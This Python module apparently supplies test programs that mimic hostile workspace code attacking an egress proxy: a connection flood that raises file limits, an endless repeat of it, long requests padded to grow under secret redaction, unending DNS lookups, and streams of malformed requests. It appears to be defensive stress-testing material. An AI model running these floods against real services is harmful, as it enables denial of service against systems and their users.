"""What hostile code in a workspace sends, as programs for its Python."""

from __future__ import annotations

FLOOD = """\
import resource, select, socket, sys, time

# Some engines give 1024 open files, and leave it to programs to ask for more.
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
host, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
waiting, sent = {}, 0
poll = select.epoll()
for number in range(count):
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex(("proxy", 8080))
    poll.register(one, select.EPOLLOUT)
    waiting[one.fileno()] = one, number
open_, until = [], time.monotonic() + seconds
while waiting and time.monotonic() < until:
    for fd, _ in poll.poll(0.1):
        one, number = waiting.pop(fd)
        poll.unregister(fd)
        open_.append(one)
        try:
            one.send(b"GET http://%s/%d HTTP/1.1\\r\\n\\r\\n" % (host.encode(), number))
            sent += 1
        except OSError:
            pass
print(sent, flush=True)
"""
"""
Open as many connections at once as the second argument says, and send one request for a host, the
first argument, on each. End without reading, at the latest after the seconds of the third.
"""

AGAIN = (
    f"import sys, time\nprogram = {FLOOD!r}\nprint('sent', flush=True)\n"
    "while True: exec(program); time.sleep(1)\n"
)
"""The same again and again. The pauses leave the processor to others."""

PENDING = """\
import socket, time

target = b"/?" + b"pw=a;" * 830
open_ = []
for number in range(100):
    one = socket.create_connection(("proxy", 8080))
    one.sendall(b"GET http://slow.example%s HTTP/1.1\\r\\n\\r\\n" % target)
    open_.append(one)
print("sent", flush=True)
time.sleep(3600)
"""
"""Send 100 long requests that get longer when secrets are removed, and wait for the answers."""

LOOKUPS = """\
import random, socket, struct, time

def query(name):
    labels = b"".join(bytes([len(one)]) + one for one in name.split(b"."))
    head = struct.pack("!6H", random.getrandbits(16), 256, 1, 0, 0, 0)
    return head + labels + bytes([0, 0, 1, 0, 1])

one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.connect(("proxy", 53))
print("sent", flush=True)
while True:
    for _ in range(50):
        try:
            one.send(query(b"%d.look-up.example" % random.getrandbits(40)))
        except OSError:
            pass
    time.sleep(0.2)
"""
"""Look up names without end."""

NONSENSE = """\
import os, random, socket, time

print("sent", flush=True)
while True:
    one = socket.create_connection(("proxy", 8080))
    try:
        one.sendall(random.choice((
            os.urandom(2000) + b"\\r\\n\\r\\n",
            b"GET http://\\xff\\x00\\x1b[31m/" + os.urandom(4000) + b" HTTP/1.1\\r\\n\\r\\n",
            b"\\xf0\\x9f\\x98\\x80" * 900 + b" http://nonsense.example/ HTTP/1.1\\r\\n\\r\\n",
            b"CONNECT nonsense.example:443 HTTP/1.1\\r\\n\\r\\n" + os.urandom(500),
            b"GET http://nonsense.example/?" + b"token=%25" * 450 + b" HTTP/1.1\\r\\n\\r\\n",
        )))
        one.settimeout(0.05)
        one.recv(4096)
    except OSError:
        pass
    one.close()
    time.sleep(0.2)
"""
"""Send what is no request, or hardly one, without end."""
